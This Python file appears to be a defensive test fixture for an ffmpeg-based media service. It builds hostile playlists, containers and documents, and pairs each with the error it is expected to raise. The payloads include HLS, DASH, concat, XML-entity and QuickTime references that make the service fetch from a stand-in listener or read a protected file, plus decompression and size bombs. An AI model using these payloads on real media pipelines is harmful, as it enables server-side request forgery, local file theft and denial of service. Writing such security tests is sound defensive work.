"""Files that are made to harm whoever opens them: each is written by a function, from nothing or from a clip.

In what they say ``{trap}`` is the address of a listener that nobody may reach, and ``{secret}`` a file that nobody may read.
"""

from __future__ import annotations

import gzip
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from include.errors import InputNotSupported, InvalidInputData, LimitExceeded, MediaError

__all__ = ["HOSTILE", "Hostile", "World"]


@dataclass(frozen=True)
class World:
    """Where the files are opened: the listener's host and port, the secret file, and the clips to begin with."""

    host: str
    port: int
    secret: str
    clip: Callable[[str], bytes]

    def fill(self, text: str) -> bytes:
        """Write the names of this world into a text."""
        names = {"trap": f"{self.host}:{self.port}", "host": self.host, "port": str(self.port), "secret": self.secret}
        return re.sub(r"\{(trap|host|port|secret)\}", lambda match: names[match[1]], text).encode()


Make = Callable[[World], bytes]


@dataclass(frozen=True)
class Hostile:
    """A file and the errors that may come of it; more than one where versions of ffmpeg see different things in it first."""

    make: Make
    errors: tuple[type[MediaError], ...]


def _text(content: str) -> Make:
    return lambda world: world.fill(content)


# -- boxes of MP4 (ISO/IEC 14496-12)


def box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(content), kind) + content


def _patched(file: bytes, path: tuple[bytes, ...], change: Callable[[bytes], bytes]) -> bytes:
    """Replace the content of the first box at ``path``; boxes around it grow with it."""
    done, position = b"", 0
    while position < len(file):
        size, kind = struct.unpack_from(">I4s", file, position)
        content = file[position + 8 : position + size]
        if path and kind == path[0]:
            content = _patched(content, path[1:], change) if path[1:] else change(content)
            path = ()
        done += box(kind, content)
        position += size
    return done


_MEDIA = (b"moov", b"trak", b"mdia")


def _mp4(path: tuple[bytes, ...], change: Callable[[bytes], bytes]) -> Make:
    return lambda world: _patched(world.clip("moov_at_end"), path, change)


def _mp4_of(entry: Make) -> Make:
    """Return a file whose samples are said to be elsewhere, by an entry of the box dref."""

    def make(world: World) -> bytes:
        references = struct.pack(">II", 0, 1) + entry(world)
        file = _patched(world.clip("moov_at_end"), (*_MEDIA, b"minf", b"dinf", b"dref"), lambda _: references)
        # Nothing of them is here.
        return _patched(file, (b"mdat",), lambda content: bytes(len(content)))

    return make


def _at(offset: int, new: bytes) -> Callable[[bytes], bytes]:
    return lambda content: content[:offset] + new + content[offset + len(new) :]


def _alias(path: bytes) -> bytes:
    # QuickTime's alias record: volume, folder and file names of a Macintosh, and a path of Unix at its end.
    fixed = (
        struct.pack(">IHH", 0, 150, 2) + struct.pack(">H", 0) + bytes([1]) + b"x".ljust(27, b"\0") + bytes(4) + b"H+" + bytes(6)
    )
    fixed += bytes([6]) + b"secret".ljust(63, b"\0") + bytes(16) + struct.pack(">HH", 1, 1) + bytes(16)
    extra = struct.pack(">HH", 18, len(path)) + path + b"\0" * (len(path) % 2) + struct.pack(">HH", 0xFFFF, 0)
    return box(b"alis", struct.pack(">I", 0) + fixed + extra)


def _quicktime_reference(world: World) -> bytes:
    address = world.fill("http://{trap}/a.mov\0")
    reference = box(b"rdrf", struct.pack(">I4sI", 0, b"url ", len(address)) + address)
    return box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", box(b"rmra", box(b"rmda", reference)))


def _compressed_header(world: World) -> bytes:
    # A header that unpacks to 50 MB of nothing.
    packed = zlib.compress(bytes(50_000_000), 9)
    header = box(b"cmov", box(b"dcom", b"zlib") + box(b"cmvd", struct.pack(">I", 50_000_000) + packed))
    return box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", header)


def _endless_boxes(world: World) -> bytes:
    content = b""
    for _ in range(2000):
        content = box(b"moov", content)
    return box(b"ftyp", b"isom\0\0\2\0isom") + content


# -- other containers


def _ebml(identifier: bytes, content: bytes) -> bytes:
    return identifier + struct.pack(">Q", 1 << 56 | len(content)) + content


def _matroska(*elements: bytes) -> bytes:
    head = _ebml(b"\x1a\x45\xdf\xa3", _ebml(b"\x42\x82", b"matroska"))
    return head + _ebml(b"\x18\x53\x80\x67", b"".join(elements))


def _tracks(count: int) -> bytes:
    entries = b""
    for number in range(1, count + 1):
        identity = _ebml(b"\xd7", struct.pack(">I", number)) + _ebml(b"\x73\xc5", struct.pack(">I", number))
        sound = _ebml(b"\xe1", _ebml(b"\xb5", struct.pack(">f", 8000)) + _ebml(b"\x9f", b"\1") + _ebml(b"\x62\x64", b"\x10"))
        entries += _ebml(b"\xae", identity + _ebml(b"\x83", b"\x02") + _ebml(b"\x86", b"A_PCM/INT/LIT") + sound)
    block = _ebml(b"\xa3", b"\x81\0\0\x80" + bytes(16))
    return _ebml(b"\x16\x54\xae\x6b", entries) + _ebml(b"\x1f\x43\xb6\x75", _ebml(b"\xe7", b"\0") + block)


def _transport_streams(world: World) -> bytes:
    # Every packet begins a stream of its own, which no table has announced.
    start = b"\0\0\1\xe0\0\0\x80\x80\5!\0\1\0\1\0\0\1\xb3"
    packets = [struct.pack(">BHB", 0x47, 0x4000 | pid, 0x10) + start.ljust(184, b"\xff") for pid in range(32, 8190)]
    return b"".join(packets) * 2


def _with_gab2(text: str) -> Make:
    # Subtitles in AVI are files of their own, whose format is guessed.
    def make(world: World) -> bytes:
        file = world.clip("avi").replace(b"auds", b"txts", 1)
        start = file.index(b"01wb", file.index(b"movi"))
        (size,) = struct.unpack_from("<I", file, start + 4)
        name = "s".encode("utf-16-le") + b"\0\0"
        said = world.fill(text)
        content = b"GAB2\0" + struct.pack("<HI", 2, len(name)) + name + struct.pack("<HI", 4, len(said)) + said
        # Cut off, since the video is sound.
        return file[: start + 8] + content[:size].ljust(size, b" ") + file[start + 8 + size : len(file) // 2]

    return make


def _flv(world: World) -> bytes:
    file = world.clip("flv")
    at = file.index(b"duration\0") + 9
    return file[:at] + struct.pack(">d", 1e12) + file[at + 8 :]


def _late_flv(world: World) -> bytes:
    file, position, last = bytearray(world.clip("flv")), 13, 0
    while position < len(file):
        # A picture, not a header or the end of the sequence
        if file[position] == 9 and file[position + 12] == 1:
            last = position
        position += 15 + int.from_bytes(file[position + 1 : position + 4], "big")
    late = (2 * 86400 * 1000).to_bytes(4, "big")
    file[last + 4 : last + 8] = late[1:] + late[:1]
    return bytes(file)


def _raw_avi(width: int, height: int) -> Make:
    def make(world: World) -> bytes:
        # The first header of a format (BITMAPINFOHEADER) is the video's: raw pictures of 24 bits.
        file = world.clip("avi")
        at = file.index(b"strf") + 12
        return file[:at] + struct.pack("<iiHHI", width, height, 1, 24, 0) + file[at + 16 :]

    return make


def _bitmap(width: int, height: int) -> bytes:
    head = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + head


def _zipped(world: World) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("clip.mp4", world.clip("short"))
    return file.getvalue()


def _ogg(world: World) -> bytes:
    # A page with the longest header of Vorbis that says of itself that it has four billion comments.
    packets = b"\x01vorbis" + struct.pack("<IBIiiiBB", 0, 2, 48000, 0, 0, 0, 0xB8, 1)
    comments = b"\x03vorbis" + struct.pack("<I", 0xFFFFFFFF) + struct.pack("<I", 0xFFFFFFFF)

    def page(flags: int, number: int, content: bytes) -> bytes:
        return b"OggS" + struct.pack("<BBqIIIBB", 0, flags, 0, 1, number, 0, 1, len(content)) + content

    return page(2, 0, packets) + page(0, 1, comments)


_NO = (InputNotSupported,)
_BAD = (InvalidInputData,)
_EITHER = (InputNotSupported, InvalidInputData)
_MUCH = (LimitExceeded,)

_HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n"

HOSTILE: dict[str, Hostile] = {
    # Lists that name other files and servers
    "hls of a server": Hostile(_text(f"{_HLS}#EXTINF:10,\nhttp://{{trap}}/a.ts\n#EXT-X-ENDLIST\n"), _NO),
    "hls of a file": Hostile(_text(f"{_HLS}#EXTINF:10,\nfile://{{secret}}\n#EXT-X-ENDLIST\n"), _NO),
    "hls of a concatenation": Hostile(_text(f"{_HLS}#EXTINF:1,\nconcat:http://{{trap}}/?|{{secret}}\n#EXT-X-ENDLIST\n"), _NO),
    "hls of a part of a file": Hostile(_text(f"{_HLS}#EXTINF:1,\nsubfile,,start,0,end,9,,:{{secret}}\n"), _NO),
    "hls with a key": Hostile(
        _text(f'{_HLS}#EXT-X-KEY:METHOD=AES-128,URI="http://{{trap}}/k"\n#EXTINF:1,\ncrypto+file://{{secret}}\n'), _NO
    ),
    "hls with a map": Hostile(_text(f'{_HLS}#EXT-X-MAP:URI="http://{{trap}}/i.mp4"\n#EXTINF:1,\na.m4s\n#EXT-X-ENDLIST\n'), _NO),
    "hls of playlists": Hostile(_text("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://{trap}/a.m3u8\n"), _NO),
    "hls of text": Hostile(_text(f"{_HLS}#EXTINF:1,\ndata:text/plain,x\n#EXT-X-ENDLIST\n"), _NO),
    "dash of a server": Hostile(
        _text(
            '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S">'
            "<BaseURL>http://{trap}/</BaseURL><Period><AdaptationSet><Representation id='1' bandwidth='1' mimeType='video/mp4'>"
            "<SegmentTemplate media='$Number$.m4s' initialization='i.mp4' duration='1'/></Representation></AdaptationSet>"
            "</Period></MPD>"
        ),
        _NO,
    ),
    "dash of a file": Hostile(
        _text(
            '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><AdaptationSet><Representation>'
            "<BaseURL>file://{secret}</BaseURL></Representation></AdaptationSet></Period></MPD>"
        ),
        _NO,
    ),
    "smooth streaming": Hostile(
        _text('<SmoothStreamingMedia MajorVersion="2" Duration="1"><StreamIndex Url="http://{trap}/"/>'), _NO
    ),
    "concat of a file": Hostile(_text("ffconcat version 1.0\nfile '{secret}'\n"), _NO),
    "concat of a server": Hostile(_text("ffconcat version 1.0\nfile 'http://{trap}/a.mp4'\n"), _NO),
    "session description": Hostile(
        _text("v=0\no=- 0 0 IN IP4 {host}\ns=x\nc=IN IP4 {host}\nt=0 0\nm=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"), _NO
    ),
    "real session": Hostile(_text("rtsp://{trap}/stream\n"), _NO),
    "asx": Hostile(_text('<asx version="3.0"><entry><ref href="http://{trap}/a.wmv"/></entry></asx>'), _NO),
    "pls": Hostile(_text("[playlist]\nFile1=http://{trap}/a.mp3\nNumberOfEntries=1\n"), _NO),
    "asf redirection": Hostile(_text("[Reference]\nRef1=http://{trap}/a.asf\n"), _NO),
    "imf": Hostile(
        _text(
            '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:1</Id>'
            "</CompositionPlaylist>"
        ),
        _NO,
    ),
    "an entity of xml": Hostile(
        _text('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://{trap}/">]><tt>&e;</tt>'), _NO
    ),
    "subtitles": Hostile(_text("1\n00:00:00,000 --> 00:00:10,000\n<img src='http://{trap}/'>\n"), _NO),
    "ffmetadata": Hostile(_text(";FFMETADATA1\ntitle=http://{trap}/\n"), _NO),
    "avisynth": Hostile(_text('Import("{secret}")\n'), _NO),
    "avi with a playlist for subtitles": Hostile(_with_gab2(f"{_HLS}#EXTINF:1,\nhttp://{{trap}}/a.ts\n#EXT-X-ENDLIST\n"), _BAD),
    "quicktime that refers to a server": Hostile(
        _quicktime_reference,
        _BAD,
    ),
    "mp4 whose samples are on a server": Hostile(
        _mp4_of(lambda world: box(b"url ", bytes(4) + world.fill("http://{trap}/a.mp4\0"))), _EITHER
    ),
    "mp4 whose samples are in a file": Hostile(_mp4_of(lambda world: _alias(world.secret.encode())), _EITHER),
    # Pictures, documents and programs
    "png": Hostile(lambda world: b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBBI", 13, b"IHDR", 1, 1, 8, 2, 0, 0, 0, 0), _NO),
    "jpeg": Hostile(lambda world: b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xd9", _NO),
    "gif": Hostile(lambda world: b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(6) + b",\0\0\0\0\xff\xff\xff\xff\0\2\2D\1\0;", _NO),
    "svg": Hostile(_text('<svg xmlns="http://www.w3.org/2000/svg"><image href="http://{trap}/a.png"/></svg>'), _NO),
    "bitmap of four gigapixels": Hostile(lambda world: _bitmap(65535, 65535), _NO),
    "ansi art": Hostile(_text("\x1b[31mhello\x1b[0m\n" * 50), _NO),
    "pdf": Hostile(_text("%PDF-1.7\n1 0 obj<</URI(http://{trap}/)>>\n"), _NO),
    "program": Hostile(lambda world: b"\x7fELF\2\1\1" + bytes(500), _NO),
    "web page": Hostile(_text("<!doctype html><video src='http://{trap}/a.mp4'>"), _NO),
    "archive": Hostile(_zipped, _NO),
    "compressed file": Hostile(lambda world: gzip.compress(world.clip("short")), _NO),
    # More than anyone can take
    "flv whose last picture comes after two days": Hostile(_late_flv, _MUCH),
    "flv of many years": Hostile(_flv, (LimitExceeded, InvalidInputData)),
    "pictures of 8192x8192": Hostile(_raw_avi(8192, 8192), _MUCH),
    "raw pictures of 99999x99999": Hostile(
        _text("YUV4MPEG2 W99999 H99999 F25:1 C420\nFRAME\n" + "x" * 1000), (LimitExceeded, *_EITHER)
    ),
    "matroska with 900 tracks": Hostile(lambda world: _matroska(_tracks(900)), _MUCH),
    "matroska with 9000 tracks": Hostile(lambda world: _matroska(_tracks(9000)), (LimitExceeded, *_EITHER)),
    "transport stream of 8000 streams": Hostile(_transport_streams, (LimitExceeded, InvalidInputData)),
    "mp4 with a header that unpacks to 50 MB": Hostile(_compressed_header, _BAD),
    "boxes in boxes": Hostile(_endless_boxes, _BAD),
    "mp4 with four billion samples": Hostile(
        _mp4((*_MEDIA, b"minf", b"stbl", b"stsz"), _at(4, struct.pack(">II", 1, 0xFFFFFFFF))), _BAD
    ),
    "mp4 with times that overflow": Hostile(
        _mp4((*_MEDIA, b"minf", b"stbl", b"stts"), lambda content: content[:4] + struct.pack(">III", 1, 100, 0x7FFFFFFF)),
        (LimitExceeded, InvalidInputData),
    ),
    "mp4 with chunks beyond its end": Hostile(
        _mp4((*_MEDIA, b"minf", b"stbl", b"stco"), lambda content: content[:8] + b"\xff" * (len(content) - 8)), _BAD
    ),
    "matroska of unknown length": Hostile(lambda world: b"\x1a\x45\xdf\xa3\x01" + b"\xff" * 600, _BAD),
    "ogg with four billion comments": Hostile(_ogg, _BAD),
}
